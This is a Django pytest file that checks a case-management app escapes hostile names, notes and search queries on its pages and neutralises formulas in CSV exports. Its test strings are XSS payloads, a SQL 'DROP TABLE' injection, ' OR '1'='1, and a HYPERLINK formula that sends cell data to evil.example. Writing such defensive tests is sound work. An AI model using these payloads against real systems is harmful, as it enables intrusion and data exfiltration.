"""XSS and injection: hostile names and notes are stored as typed and shown escaped everywhere.

Pages (case list, case page, search, dashboard, bin, audit journal, the person's own link) and
CSV exports (through config.csv_export). PDFs and e-mails are tested by the litigation and
notification tests with the same strings (`HOSTILE`).
"""

import csv
import html
import io

import pytest
from django.urls import reverse

from accounts.enums import Role
from attempts.services import self_report_link_create
from cases.bin import case_delete
from cases.models import Case, Person
from config.csv_export import EXCEL_FR, format_cell
from tests.factories import CaseFactory, member

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
SQL = "O'Brien'; DROP TABLE cases_case;--"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
HOSTILE = [SCRIPT, ATTRIBUTE, SQL, FORMULA]


@pytest.fixture
def hostile_case(team):
    case = CaseFactory(
        team=team,
        person__last_name=SCRIPT,
        person__first_name=ATTRIBUTE,
        person__situation=SQL,
        person__aliases=FORMULA,
        notes=f"{SCRIPT} {ATTRIBUTE} {SQL}",
    )
    Person.objects.filter(pk=case.person_id).update(search_key=SCRIPT.lower())
    return case


def test_hostile_text_is_stored_exactly_as_typed(hostile_case):
    person = Person.objects.get(pk=hostile_case.person_id)
    assert (person.last_name, person.first_name, person.situation, person.aliases) == (SCRIPT, ATTRIBUTE, SQL, FORMULA)
    assert Case.objects.count() == 1  # the "DROP TABLE" stayed a string


def test_pages_show_hostile_text_escaped(login_as, team, hostile_case):
    admin = login_as(member(team, Role.ADMIN))
    pages = {
        "case page": admin.get(reverse("cases:detail", args=[hostile_case.pk])).text,
        "case list": admin.get(reverse("cases:list")).text,
        "person form": admin.get(reverse("cases:person_edit", args=[hostile_case.pk])).text,
    }
    for where, text in pages.items():
        assert "<script>alert(1)" not in text, where
        assert "onerror=alert(1)>" not in text, where
    assert html.escape(ATTRIBUTE) in pages["case page"]
    assert html.escape(SCRIPT.upper()) in pages["case page"] or html.escape(SCRIPT) in pages["case page"]
    assert html.escape(SQL) in pages["case page"]


def test_search_with_sql_quotes_and_markup_is_harmless(login_as, team, hostile_case):
    admin = login_as(member(team, Role.ADMIN))
    for query in (SQL, SCRIPT, "' OR '1'='1", "%' --", "\\"):
        response = admin.get(reverse("cases:list"), {"q": query})
        assert response.status_code == 200, query
        assert "<script>alert(1)" not in response.text
    # The OR-1=1 classic matches nothing rather than everything.
    CaseFactory(team=team, person__last_name="Traoré")
    assert "TRAORÉ" not in admin.get(reverse("cases:list"), {"q": "' OR '1'='1"}).text
    response = admin.get(reverse("cases:people_search"), {"person_q": SCRIPT})
    assert response.status_code == 200 and "<script>alert(1)" not in response.text


def test_bin_and_audit_journal_escape_reasons_and_names(login_as, team, hostile_case):
    admin_user = member(team, Role.ADMIN)
    case_delete(case=hostile_case, by=admin_user, reason=SCRIPT + ATTRIBUTE)
    admin = login_as(admin_user)
    for url in (reverse("cases:bin"), reverse("accounts:audit_journal")):
        text = admin.get(url).text
        assert "<script>alert(1)" not in text and "onerror=alert(1)>" not in text, url
    assert html.escape(SCRIPT) in admin.get(reverse("cases:bin")).text


def test_the_persons_own_page_escapes_their_name(client, team, caseworker):
    case = CaseFactory(team=team, person__first_name=SCRIPT)
    _link, token = self_report_link_create(case=case, created_by=caseworker)
    text = client.get(reverse("selfreport:report", args=[token])).text
    assert "<script>alert(1)" not in text


def _csv(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    delimiter = ";" if "excel-fr" in response.request["QUERY_STRING"] else ","
    return list(csv.reader(io.StringIO(body), delimiter=delimiter))


@pytest.mark.parametrize("dialect", ["", "excel-fr"])
def test_exports_neutralise_formulas_and_keep_markup_as_plain_text(login_as, team, dialect):
    CaseFactory(team=team, person__last_name=FORMULA, person__first_name="@SUM(A1)")
    coordinator = login_as(member(team, Role.COORDINATOR))
    response = coordinator.get(reverse("reports:cases_export"), {"dialect": dialect} if dialect else {})
    assert response.status_code == 200
    cells = [cell for row in _csv(response) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), [c for c in cells if c[:1] in "=+@"]
    assert any(cell.startswith("'=HYPERLINK") or cell.startswith("'" + FORMULA.upper()[:10]) for cell in cells)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_shared_csv_writer_neutralises_every_hostile_string(value):
    cell = format_cell(value, EXCEL_FR)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.lstrip("'") == value
